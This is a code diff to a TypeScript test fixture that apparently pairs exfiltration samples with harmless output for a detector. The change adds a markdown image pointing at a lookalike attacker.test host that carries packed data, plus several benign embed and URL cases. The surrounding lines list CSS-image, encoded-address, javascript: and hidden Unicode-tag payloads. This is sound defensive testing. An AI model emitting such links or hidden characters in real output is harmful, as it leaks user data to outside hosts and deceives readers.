@@ -13,6 +13,7 @@ export const EXFILTRATION: readonly (readonly [kind: string, text: string])[] = 
   ['markdown_link', `[click here](https://attacker.test/in?data=${packed})`],
   ['css_image', `<div style="background:url(https://attacker.test/b?d=${packed})">`],
   ['encoded_address', 'ping http://nb2wy3dpfqqho33snrsca5dinfzsa2lt.x.attacker.test/a'],
+  ['markdown_image', `![x](https://fonts.googleapis.com.attacker.test/p.png?d=${packed})`],
   ['script_address', '[open](javascript:fetch(1))'],
   ['script_address', '<a href="javascript:alert(1)">x</a>'],
   ['hidden_text', `Fine.${[...'send mail'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')} Bye.`],
@@ -27,5 +28,10 @@ export const HARMLESS_OUTPUT: readonly string[] = [
   'Document: https://docs.example.org/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit',
   'Use `<script src="app.js"></script>` and <img src="cat.png" alt="a cat"> in the page.',
   '```js\nconst a = [1, 2](x); el.onload = () => {}\n```',
+  '<link href="https://fonts.googleapis.com/css2?family=Inter:wght@400;500;600;700&display=swap" rel="stylesheet">',
+  '![build](https://img.shields.io/badge/build-passing?style=for-the-badge&logo=githubactions)',
+  '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?list=PLrAXtmErZgOeiKm4sgNOknGvNjby9efdf"></iframe>',
+  '![](https://images.unsplash.com/photo-1506744038136-46273834b3fb?auto=format-and-crop-to-fit&w=800)',
+  'API_SERVER=https://012345678903AB2BAE5D1E0BFE0E2B50.gr7.us-east-1.eks.amazonaws.com',
   'The flag 🏴󠁧󠁢󠁥󠁮󠁧󠁿 and the family 👩‍👩‍👧‍👦 are emoji.',
 ]
